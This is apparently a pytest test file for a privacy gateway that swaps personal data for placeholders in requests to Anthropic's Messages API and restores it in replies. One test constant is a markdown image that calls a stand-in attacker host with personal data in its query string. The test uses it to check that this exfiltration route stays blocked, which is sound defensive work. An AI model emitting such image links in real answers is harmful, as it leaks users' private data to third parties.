"""Anthropic's messages through the gateway."""

from __future__ import annotations

import json

import httpx
import pytest
from tests.server.gateway.test_refusals import post
from tests.server.gateway.upstream import events

from allonym.server.gateway import Client
from allonym.server.gateway.settings import digest_client_key

ASKED = "Write to Ada Brook, ada.brook@example.com."
IMAGE = "![x](https://evil.example/?q=<PERSON 1>)"
TOOL = {"name": "post_message", "description": "as for Zoë Quill", "input_schema": {"type": "object", "properties": {}}}
USE = {"type": "tool_use", "id": "toolu_0a1b2c3d4e", "name": "post_message", "input": {"to": "<EMAIL 1>", "n": 3}}


def request(*messages, **more):
    return {"model": "claude-1", "max_tokens": 9, "messages": [{"role": "user", "content": ASKED}, *messages], **more}


def message(*blocks):
    head = {"id": "msg_0a1b2c3d4e5f", "type": "message", "role": "assistant", "model": "claude-1"}
    return {
        **head,
        "content": list(blocks),
        "stop_reason": "end_turn",
        "stop_sequence": None,
        "usage": {"input_tokens": 1},
    }


def stream(*blocks):
    """The events of a message; texts arrive letter by letter."""
    out = [{"type": "message_start", "message": message()}]
    for index, block in enumerate(blocks):
        name, kind, text = {
            "text": ("text", "text_delta", block.get("text")),
            "thinking": ("thinking", "thinking_delta", block.get("thinking")),
            "tool_use": ("partial_json", "input_json_delta", json.dumps(block.get("input"))),
        }[block["type"]]
        start = {**block, **({"input": {}} if block["type"] == "tool_use" else {name: ""})}
        out.append({"type": "content_block_start", "index": index, "content_block": start})
        out += [{"type": "content_block_delta", "index": index, "delta": {"type": kind, name: c}} for c in text]
        out.append({"type": "content_block_stop", "index": index})
    return [
        *out,
        {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 3}},
        {"type": "message_stop"},
    ]


def join_stream(text):
    """The blocks that the events of an answer add up to."""
    blocks = {}
    for line in text.splitlines():
        if not line.startswith("data: "):
            continue
        event = json.loads(line[6:])
        if event["type"] == "content_block_start":
            block = event["content_block"]
            blocks[event["index"]] = {**block, "input": ""} if block["type"] == "tool_use" else dict(block)
        elif event["type"] == "content_block_delta":
            delta, block = event["delta"], blocks[event["index"]]
            name = {"text_delta": "text", "thinking_delta": "thinking", "input_json_delta": "input"}[delta["type"]]
            block[name] += delta[{"input": "partial_json"}.get(name, name)]
    return [{**b, "input": json.loads(b["input"])} if b["type"] == "tool_use" else b for b in blocks.values()]


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize("tool", ["post_message", "send_mail"])
def test_a_message_and_its_calls(streamed, tool, gateway, upstream):
    use = {**USE, "name": tool}
    blocks = [
        {"type": "thinking", "thinking": "<PERSON 1>?", "signature": "A" * 40},
        {"type": "text", "text": f"To <PERSON 1> {IMAGE}"},
        use,
    ]

    def behave(handler, body):
        if body.get("stream"):
            handler.stream(events(stream(*blocks), done=False, named=True), 11)
        else:
            handler.send(message(*blocks))

    upstream.behaviour = behave
    got = post(
        gateway,
        request(system="Serve Zoë Quill.", tools=[TOOL], stream=streamed, metadata={"user_id": "Ada"}),
        "messages",
    )
    assert got.status_code == 200, got.text
    content = join_stream(got.text) if streamed else got.json()["content"]
    given = "ada.brook@example.com" if tool == "send_mail" else "<EMAIL 1>"
    assert content == [
        {"type": "thinking", "thinking": "Ada Brook?", "signature": "A" * 40},
        {"type": "text", "text": f"To Ada Brook {IMAGE}"},
        {**use, "input": {"to": given, "n": 3}},
    ]
    sent = json.dumps(upstream.body, ensure_ascii=False)
    assert "Ada" not in sent and "Zoë" not in sent and "placeholders" in upstream.body["system"]
    # and the history
    upstream.behaviour = lambda handler, body: handler.send(message({"type": "text", "text": "Told <EMAIL 1>"}))
    result = {"type": "tool_result", "tool_use_id": use["id"], "content": [{"type": "text", "text": f"To {given}"}]}
    history = [
        {"role": "assistant", "content": content},
        {"role": "user", "content": [result, {"type": "text", "text": "And?"}]},
    ]
    made = post(gateway, request(*history, tools=[TOOL]), "messages")
    assert made.json()["content"][0]["text"] == "Told ada.brook@example.com"
    told = upstream.body["messages"]
    assert told[1]["content"][0] == blocks[0] and told[1]["content"][2]["input"] == USE["input"]
    assert told[2]["content"][0]["content"][0]["text"] == "To <EMAIL 1>"


@pytest.mark.parametrize(
    ("start", "delta"),
    [
        ({}, {"type": "input_json_delta", "partial_json": '{"to": "<EMAIL 1>"}'}),
        ({"type": "text", "text": ""}, {"type": "input_json_delta", "partial_json": '{"to": "<EMAIL 1>"}'}),
        ({**USE, "input": {}}, {"type": "input_text_delta", "text": "<EMAIL 1>"}),
    ],
)
def test_arguments_that_come_otherwise_than_announced_keep_their_placeholders(start, delta, gateway, upstream):
    block = [{"type": "content_block_start", "index": 0, "content_block": start}] * bool(start)
    told = [*block, {"type": "content_block_delta", "index": 0, "delta": delta}, {"type": "message_stop"}]
    upstream.behaviour = lambda handler, body: handler.stream(events(told, done=False, named=True), 11)
    got = post(gateway, request(stream=True), "messages")
    assert got.status_code == 200 and "<EMAIL 1>" in got.text and "ada.brook" not in got.text


def test_an_original_is_no_key_of_an_input(gateway, upstream):
    iban = "DE89370400440532013000"
    use = {**USE, "input": {"to": {iban: 5, "note": '{"x": "Ada Brook"}'}}}
    history = [{"role": "assistant", "content": [use]}, {"role": "user", "content": f"Did {iban} get it?"}]
    upstream.behaviour = lambda handler, body: handler.send(message({"type": "text", "text": "ok"}))
    assert post(gateway, request(*history), "messages").status_code == 200
    assert iban not in json.dumps(upstream.body) and "Ada" not in json.dumps(upstream.body)
    sent = upstream.body["messages"][-2]["content"][0]["input"]["to"]
    assert [key[0] for key in sent] == ["<", "n"] and len(sent) == 2


def test_structured_output_and_counted_tokens(gateway, upstream):
    upstream.behaviour = lambda handler, body: handler.send(message({"type": "text", "text": '{"name": "<PERSON 1>"}'}))
    form = {"format": {"type": "json_schema", "schema": {"type": "object", "description": "of Ada Brook"}}}
    got = post(gateway, request(output_config=form), "messages")
    assert json.loads(got.json()["content"][0]["text"]) == {"name": "Ada Brook"}
    assert "Ada" not in json.dumps(upstream.body)
    upstream.behaviour = lambda handler, body: handler.send({"input_tokens": 7})
    assert post(gateway, request(), "messages/count_tokens").json() == {"input_tokens": 7}
    assert "Ada" not in json.dumps(upstream.body)


IMAGE_BLOCK = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}}
PDF = {"type": "document", "source": {"type": "base64", "media_type": "application/pdf", "data": "AAAA"}}


@pytest.mark.parametrize(
    "more",
    [
        {"mcp_servers": [{"url": "https://x.example"}]}, {"container": "Ada"}, {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
        {"messages": [{"role": "user", "content": [IMAGE_BLOCK]}]}, {"messages": [{"role": "user", "content": [PDF]}]},
        {"messages": [{"role": "user", "content": [{"type": "container_upload", "file_id": "f"}]}]},
    ],
)  # fmt: skip
def test_what_cannot_be_protected_is_refused_in_anthropics_shape(more, gateway, upstream):
    got = post(gateway, request(**more), "messages")
    assert got.status_code == 400 and not upstream.asked
    assert got.json()["type"] == "error" and got.json()["error"]["message"] and "Ada" not in got.text


def test_documents_of_text_and_tools_of_the_client(gateway, upstream):
    document = {
        "type": "document",
        "title": "Ada Brook",
        "source": {"type": "text", "media_type": "text/plain", "data": "by Ada Brook"},
    }
    upstream.behaviour = lambda handler, body: handler.send(message({"type": "text", "text": "yes"}))
    shell = {"type": "bash_20250124", "name": "bash"}
    got = post(
        gateway,
        request({"role": "assistant", "content": "x"}, {"role": "user", "content": [document]}, tools=[shell]),
        "messages",
    )
    assert got.status_code == 200, got.text
    assert upstream.body["tools"] == [shell] and "Ada" not in json.dumps(upstream.body)


def test_keys_go_where_they_belong(gateway_with, upstream, monkeypatch):
    monkeypatch.setenv("UP_KEY", "sk-up")
    upstream.behaviour = lambda handler, body: handler.send(message({"type": "text", "text": "yes"}))
    headers = {"x-api-key": "agw_mine", "anthropic-version": "2023-06-01"}
    url = gateway_with(clients={"a": Client(key_sha256=digest_client_key("agw_mine"))}, upstream_key_env="UP_KEY")
    got = httpx.post(f"{url}/v1/messages?beta=true", json=request(), headers=headers)
    assert got.status_code == 200, got.text
    sent = upstream.asked[-1][1]
    assert sent["x-api-key"] == "sk-up" and "authorization" not in sent and sent["anthropic-version"] == "2023-06-01"
    assert httpx.post(f"{url}/v1/messages", json=request(), headers={"x-api-key": "other"}).status_code == 401
